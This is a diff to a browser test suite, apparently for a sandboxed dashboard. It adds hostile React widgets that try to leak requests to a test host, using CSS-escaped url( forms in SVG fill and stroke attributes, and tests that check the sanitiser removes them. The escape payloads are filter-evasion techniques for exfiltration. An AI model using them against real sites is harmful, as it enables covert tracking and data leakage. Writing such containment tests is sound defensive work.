@@ -92,13 +92,31 @@ function Widget(props) {
       e("a", { href: "#" }, e("set", { attributeName: "href", to: host + "svgset" }), e("text", null, "svg")),
       e("image", { href: host + "image" }), e("use", { href: host + "use#x" }),
       e("foreignObject", null, e("iframe", { src: host + "foreign" })),
-      e("rect", { width: 10, height: 10, fill: "url(" + host + "fill)", filter: "url(" + host + "f)" })),
+      e("rect", { width: 10, height: 10, fill: "url(" + host + "fill)", filter: "url(" + host + "f)" }),
+      // Presentation attributes are parsed as CSS, where each of these is url(.
+      e("rect", { width: 10, height: 10, fill: "u\\\\72l(" + host + "esc-fill#p) red", stroke: "u\\\\rl(" + host + "esc-stroke#p)" }),
+      e("rect", { width: 10, height: 10, fill: "\\\\75rl(" + host + "esc-fill2#p) blue", stroke: "u\\\\000072l(" + host + "esc-stroke2#p)" }),
+      e("circle", { r: 4, fill: "rgb(0 0 0) u\\\\72l(" + host + "esc-fill3#p)", stroke: "#2563eb", strokeDasharray: "u\\\\72l(" + host + "dash)" })),
     e("div", { style: { background: "url(" + host + "bg)", backgroundImage: "u\\\\72l(" + host + "esc)",
       cursor: "url(" + host + "cursor), auto", listStyle: "url(" + host + "list)",
       borderImage: "image-set(\\"" + host + "set\\" 1x) 30", maskImage: "url(" + host + "mask)" } }, "styled"),
     e("div", { style: "background:url(" + host + "string)", ping: host, background: host + "attr" }, "attrs"),
     e("div", { dangerouslySetInnerHTML: { __html: "<img src=" + host + "html>" } }),
     e("p", { "data-testid": "allowed" }, "allowed " + props.rows.length));
+}
+"""
+
+# SVG presentation attributes are parsed as CSS, where u\72l( is url( (from the attack review, finding 2).
+ESCAPED_FILL_JS = LEAK_PRELUDE + r"""
+function Widget(props) {
+  const host = leakHost(props);
+  return e("div", null,
+    e("svg", { width: 120, height: 60, viewBox: "0 0 120 60" },
+      e("rect", { "data-testid": "r1", width: 40, height: 40, fill: "u\\72l(" + host + "fill1.svg#p) red" }),
+      e("rect", { "data-testid": "r2", x: 40, width: 40, height: 40, stroke: "u\\rl(" + host + "stroke.svg#p)", fill: "\\75rl(#nope) blue" }),
+      e("rect", { "data-testid": "r3", x: 80, width: 40, height: 40, fill: "u\\000072l(" + host + "fill3.svg#p) green" }),
+      e("rect", { "data-testid": "r4", y: 40, width: 40, height: 20, fill: "rgba(37, 99, 235, 0.5)", stroke: "currentColor" })),
+    e("p", { "data-testid": "allowed" }, "ok"));
 }
 """
 
@@ -392,9 +410,34 @@ def test_navigation_preconnect_and_load_paths_lead_nowhere(
     frame = frame_of(page, "Navigator")
     expect(frame.get_by_test_id("allowed")).to_have_text("allowed 2")
     expect(frame.locator("#root")).to_contain_text("styled")
-    expect(frame.locator("#root svg rect")).to_have_count(1)
-    assert frame.locator("#root svg rect").get_attribute("fill") is None
+    expect(frame.locator("#root svg rect")).to_have_count(3)
+    # No URL, plain or CSS-escaped, survived in a presentation attribute; a plain colour did.
+    for shape in frame.locator("#root svg rect, #root svg circle").all():
+        for name in ("fill", "stroke", "stroke-dasharray", "filter"):
+            value = shape.get_attribute(name)
+            assert value is None or ("\\" not in value and "(" not in value), (name, value)
+    assert frame.locator("#root svg circle").get_attribute("stroke") == "#2563eb"
     expect(card_of(page, "Navigator").get_by_test_id("custom-error")).to_have_count(0)
+    assert_contained(page, proxy, requests, live_server, access_log)
+
+
+def test_escaped_url_in_svg_presentation_attributes(
+    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
+) -> None:
+    page, requests = open_hostile(proxied_browser, proxy, live_server, board, {"Escaped": ESCAPED_FILL_JS})
+
+    frame = frame_of(page, "Escaped")
+    expect(frame.get_by_test_id("allowed")).to_have_text("ok")
+    attrs = {f"{k}.{a}": frame.get_by_test_id(k).get_attribute(a)
+             for k, a in (("r1", "fill"), ("r2", "stroke"), ("r2", "fill"), ("r3", "fill"))}
+    # The escaped url( forms are left out (the shapes draw with the default paint), so Chromium starts no
+    # load for CSP to block; a plain colour is kept.
+    assert attrs == {"r1.fill": None, "r2.stroke": None, "r2.fill": None, "r3.fill": None}, attrs
+    assert frame.get_by_test_id("r4").get_attribute("fill") == "rgba(37, 99, 235, 0.5)"
+    assert frame.get_by_test_id("r4").get_attribute("stroke") == "currentColor"
+    computed = frame.locator("#root").evaluate(
+        "() => [...document.querySelectorAll('rect')].map((r) => getComputedStyle(r).fill + getComputedStyle(r).stroke)")
+    assert not [c for c in computed if "url" in c], computed
     assert_contained(page, proxy, requests, live_server, access_log)
 
 
